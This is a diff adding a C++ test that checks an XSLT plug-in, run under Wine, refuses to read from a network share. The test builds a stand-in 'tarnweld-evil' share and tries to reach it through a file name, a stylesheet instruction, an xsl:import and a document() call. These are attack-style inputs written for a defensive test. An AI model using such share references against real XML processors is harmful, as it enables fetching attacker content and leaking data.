@@ -243,6 +243,62 @@ TEST(StandIn, AKilledStandInLeavesNothingBehind) {
   EXPECT_EQ(textContent(next.output), textContent(expected));
 }
 
+// The real plug-in reads no share, whichever way the document names one: its
+// own name (the stylesheet beside it), a stylesheet instruction, an import,
+// document(). Each ends in a report that says why, or reads nothing from the
+// share. Under Wine the share \\tarnweld-evil\share is
+// $WINEPREFIX/dosdevices/unc/tarnweld-evil/share. A drive letter is local
+// whatever it is mapped to: every other test reads through Z:, which Wine
+// maps to the Linux root.
+TEST(StandIn, ReadsNoShare) {
+  if (!test::underWine()) GTEST_SKIP() << "marker files behind a share need Wine's UNC folder";
+  wchar_t prefixText[MAX_PATH] = {};
+  ASSERT_GT(GetEnvironmentVariableW(L"WINEPREFIX", prefixText, MAX_PATH), 0u);
+  const std::string prefix = toUtf8(win::u16(prefixText));
+  const std::filesystem::path share = std::filesystem::path(prefix) / "dosdevices" / "unc" / "tarnweld-evil" / "share";
+  std::filesystem::create_directories(share);
+  std::ofstream(share / "leak.xml", std::ios::binary) << "<leak>SHARE-WAS-READ</leak>";
+  std::ofstream(share / "leak.xsl", std::ios::binary)
+      << "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
+         "<xsl:output method='text'/><xsl:template match='/'>SHARE-WAS-READ</xsl:template></xsl:stylesheet>";
+
+  const std::filesystem::path dir = std::filesystem::path(test::programPath(u"e2e"));
+  std::filesystem::create_directories(dir);
+  const auto write = [&dir](const char* name, const std::string& bytes) {
+    std::ofstream(dir / name, std::ios::binary) << bytes;
+    return (dir / name).u16string();
+  };
+  write("import-share.xsl",
+        "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
+        "<xsl:import href='file://tarnweld-evil/share/leak.xsl'/></xsl:stylesheet>");
+  write("document-share.xsl",
+        "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:output method='text'/>"
+        "<xsl:template match='/'>[<xsl:value-of select=\"document('file://tarnweld-evil/share/leak.xml')\"/>]"
+        "</xsl:template></xsl:stylesheet>");
+  struct Case {
+    const char* document;
+    std::string bytes;
+    std::u16string fileName;  // served as FILE_NAME, unless empty
+    std::string outputStart;
+  };
+  const Case cases[] = {
+      {"named.xml", "<a/>", u"\\\\tarnweld-evil\\share\\leak.xml",
+       "Tarnweld Error - The XSL File (\\\\tarnweld-evil\\share\\leak.xsl) Did Not Validate!\r\n\r\nReason: Cannot "
+       "read \\\\tarnweld-evil\\share\\leak.xsl: it is on another machine (a share)"},
+      {"instruction-url.xml", "<?xml-stylesheet href='file://tarnweld-evil/share/leak.xsl'?><a/>", u"",
+       "Tarnweld Error - The XSL File (file://tarnweld-evil/share/leak.xsl) Did Not Validate!\r\n\r\nReason: Cannot "
+       "read file://tarnweld-evil/share/leak.xsl: it is on another machine (a share)"},
+      {"import-share.xml", "<?xml-stylesheet href='import-share.xsl'?><a/>", u"",
+       "Tarnweld Error - The XML Source Did Not Transform With XSL File"},
+      {"document-share.xml", "<?xml-stylesheet href='document-share.xsl'?><a/>", u"", "[]"},
+  };
+  for (const Case& c : cases) {
+    const std::u16string options = c.fileName.empty() ? u"" : u"--file-name \"" + c.fileName + u"\" ";
+    const test::ProcessEnd end = runHost(write(c.document, c.bytes), options);
+    EXPECT_TRUE(end.output.starts_with(c.outputStart)) << c.document << ": " << end.output;
+    EXPECT_EQ(end.output.find("SHARE-WAS-READ"), std::string::npos) << c.document;
+  }
+}
 // Stand-ins started together: one serves its own document, the others refuse
 // at once, as a second host does on Linux, so no plug-in reaches another
 // run's host object.
